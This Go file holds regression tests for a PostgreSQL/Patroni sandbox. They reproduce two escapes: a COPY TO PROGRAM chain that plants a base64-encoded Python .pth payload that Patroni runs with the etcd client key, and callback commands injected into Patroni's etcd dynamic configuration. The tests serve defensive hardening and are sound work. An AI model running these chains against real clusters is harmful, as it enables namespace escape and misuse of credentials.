package link

// Second hostile review (8dad0f7, 70795a9, 22ace77, 430c6b0); kept as
// regression tests: each fails if its attack gets through (fixed in the
// commit after the review).
//
// TestAttack2PatroniUserSite: Patroni is /usr/bin/patroni, a Python script
// (#!/usr/bin/python3, no -s), run as postgres without HOME in its
// environment (patroni.Env): Python's site module then takes postgres's
// home from the password database (/var/lib/postgresql, postgres's own)
// and executes every "import" line of the *.pth files in
// ~/.local/lib/python3.X/site-packages at interpreter start. Code running
// as postgres inside PostgreSQL's namespaces (COPY ... TO PROGRAM, as a
// compromised backend can) writes such a file and SIGKILLs Patroni (same
// kuid: allowed) or waits for Patroni's next start (here: down, up); the
// payload then runs in the node's network
// namespace with the etcd client key (readable by Patroni's group) and the
// REST password. The root-owned YAML does not matter.
//
// The payload acts only in the Patroni of this test (its YAML's path in
// /proc/self/cmdline), and the .pth file is removed at the end.

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestAttack2PatroniUserSite(t *testing.T) {
	n, base, endpoints, etcdArgs, etcdNS := attackNode(t)
	ctx := context.Background()
	pdir := filepath.Join(n.dir, "patroni")
	yml := filepath.Join(pdir, "patroni.yml")
	odir := filepath.Join(base, "scratch2")
	if err := os.Mkdir(odir, 0o777); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(odir, 0o777)
	site := "/var/lib/postgresql/.local/lib/python3.11/site-packages"
	pth := filepath.Join(site, "pgsh_attack2.pth")
	_, localExisted := os.Stat("/var/lib/postgresql/.local")
	t.Cleanup(func() {
		os.Remove(pth)
		if localExisted != nil {
			os.RemoveAll("/var/lib/postgresql/.local")
		}
	})
	var eps []string
	for _, e := range endpoints {
		eps = append(eps, "https://"+e)
	}
	etcd := fmt.Sprintf(`ETCDCTL_API=3 /usr/bin/etcdctl --endpoints=%s --dial-timeout=3s --command-timeout=5s --cacert="$D/etcd-ca.crt" --cert="$D/etcd-client.crt" --key="$D/etcd-client.key"`, strings.Join(eps, ","))
	stage2 := `#!/bin/sh
D='` + pdir + `'
{
echo "stage2 uid: $(id)"
echo "stage2 netns: $(readlink /proc/self/ns/net)"
echo "stage2 interfaces:"; tail -n +3 /proc/net/dev | cut -d: -f1
echo "REST password line: $(grep -c password "$D/patroni.yml")"
` + etcd + ` put /pgshield-attack2/poc escaped-via-python-user-site
` + etcd + ` get --prefix /pgshield/ --keys-only
} > '` + odir + `/stage2.out' 2>&1
`
	payload := `import os; c = open('/proc/self/cmdline', 'rb').read(); (b'` + yml + `' in c) and os.system("sh '` + odir + `/stage2.sh' &")` + "\n"
	stage1 := `O='` + odir + `'
exec >> "$O/stage1.out" 2>&1
echo "stage1 uid: $(id)"
echo "stage1 netns: $(readlink /proc/self/ns/net)"
echo "stage1 interfaces:"; tail -n +3 /proc/net/dev | cut -d: -f1
echo '` + base64.StdEncoding.EncodeToString([]byte(stage2)) + `' | base64 -d > "$O/stage2.sh"
mkdir -p '` + site + `' && echo '` + base64.StdEncoding.EncodeToString([]byte(payload)) + `' | base64 -d > '` + pth + `' && echo "pth written"
`
	b64 := base64.StdEncoding.EncodeToString([]byte(stage1))
	if out, err := n.sql(ctx, "COPY (SELECT 1) TO PROGRAM 'echo "+b64+" | base64 -d | sh'"); err != nil {
		t.Fatalf("COPY TO PROGRAM: %v %s", err, out)
	}
	s1, _ := os.ReadFile(filepath.Join(odir, "stage1.out"))
	t.Logf("stage1 (inside PostgreSQL's namespaces):\n%s", s1)
	// Patroni's next start: a maintenance restart, an upgrade, a reboot.
	// (SIGKILLing Patroni from inside does not get it restarted: the
	// orphaned postmaster holds its stdout pipe, so the supervisor's
	// cmd.Wait never returns.)
	if out, err := n.cli(ctx, 2*time.Minute, "down"); err != nil {
		t.Fatalf("down: %v %s", err, out)
	}
	if out, err := n.cli(ctx, 4*time.Minute, "up", "--timeout", "3m"); err != nil {
		t.Fatalf("up: %v %s", err, out)
	}
	deadline := time.Now().Add(90 * time.Second)
	var s2 []byte
	for time.Now().Before(deadline) {
		if b, err := os.ReadFile(filepath.Join(odir, "stage2.out")); err == nil && strings.Contains(string(b), "/pgshield/") {
			s2 = b
			break
		}
		time.Sleep(time.Second)
	}
	if s2 == nil {
		s2, _ = os.ReadFile(filepath.Join(odir, "stage2.out"))
	}
	out, _ := sh(ctx, "ip", append([]string{"netns", "exec", etcdNS, "etcdctl"}, append(etcdArgs, "get", "/pgshield-attack2/poc")...)...)
	pth2, perr := os.ReadFile(pth)
	t.Logf("pth now: %q %v; patroni pids now: %v", pth2, perr, procsOf(yml))
	if len(s2) == 0 {
		t.Logf("daemon log tail:\n%s", n.daemonLog(6000))
	}
	if len(s2) > 0 || strings.Contains(out, "escaped") {
		t.Errorf("ATTACK SUCCEEDED: code as postgres ran outside PostgreSQL's namespace through Patroni's Python user site.\nstage2:\n%s\netcd /pgshield-attack2/poc: %s", s2, out)
	}
}

// TestAttack2DCSCallbacks: the local YAML pins parameters, bin_dir and
// pre_promote, but not postgresql.callbacks (nor before_stop,
// create_replica_methods, recovery_conf): Patroni 3.0.2 takes those from
// the dynamic configuration in etcd (config.py
// _safe_copy_dynamic_configuration; the local file overrides only keys it
// sets). Anyone holding an etcd client certificate (every node's, and
// Patroni's copy that PostgreSQL's OS user can read) or Patroni's REST
// password (in the YAML, which that user can read) makes every node's
// Patroni run a command in its node's network namespace.
func TestAttack2DCSCallbacks(t *testing.T) {
	n, base, _, etcdArgs, etcdNS := attackNode(t)
	ctx := context.Background()
	odir := filepath.Join(base, "scratch3")
	if err := os.Mkdir(odir, 0o777); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(odir, 0o777)
	script := "#!/bin/sh\n{ echo \"callback args: $*\"; echo \"uid: $(id)\"; echo \"netns: $(readlink /proc/self/ns/net)\"; tail -n +3 /proc/net/dev | cut -d: -f1; } > '" + odir + "/callback.out' 2>&1\n"
	if err := os.WriteFile(filepath.Join(odir, "cb.sh"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	etcdctl := func(args ...string) (string, error) {
		return sh(ctx, "ip", append([]string{"netns", "exec", etcdNS, "etcdctl"}, append(etcdArgs, args...)...)...)
	}
	// The leader writes the dynamic configuration key a cycle or two after
	// it takes the leader key, so wait for it (bounded).
	var cfgKey, keys string
	for deadline := time.Now().Add(time.Minute); cfgKey == "" && time.Now().Before(deadline); {
		var err error
		if keys, err = etcdctl("get", "--prefix", "/pgshield/", "--keys-only"); err != nil {
			t.Fatalf("%v %s", err, keys)
		}
		for _, k := range strings.Fields(keys) {
			if strings.HasSuffix(k, "/config") {
				cfgKey = k
			}
		}
		if cfgKey == "" {
			time.Sleep(500 * time.Millisecond)
		}
	}
	if cfgKey == "" {
		t.Fatalf("no config key after a minute in %s", keys)
	}
	cur, err := etcdctl("get", cfgKey, "--print-value-only")
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal([]byte(strings.TrimSpace(cur)), &doc); err != nil {
		t.Fatalf("%v: %s", err, cur)
	}
	pg, _ := doc["postgresql"].(map[string]any)
	if pg == nil {
		pg = map[string]any{}
	}
	pg["callbacks"] = map[string]any{"on_reload": filepath.Join(odir, "cb.sh"), "on_role_change": filepath.Join(odir, "cb.sh")}
	params, _ := pg["parameters"].(map[string]any)
	if params == nil {
		params = map[string]any{}
	}
	params["vacuum_cost_page_miss"] = "3" // any change that makes Patroni reload
	pg["parameters"] = params
	doc["postgresql"] = pg
	nb, _ := json.Marshal(doc)
	if out, err := etcdctl("put", cfgKey, string(nb)); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	t.Logf("etcd %s = %s", cfgKey, nb)
	var got []byte
	for end := time.Now().Add(40 * time.Second); time.Now().Before(end); time.Sleep(time.Second) {
		if b, err := os.ReadFile(filepath.Join(odir, "callback.out")); err == nil {
			got = b
			break
		}
	}
	if got != nil {
		t.Errorf("ATTACK SUCCEEDED: Patroni ran a callback taken from etcd's dynamic configuration:\n%s", got)
	}
	_ = n
}
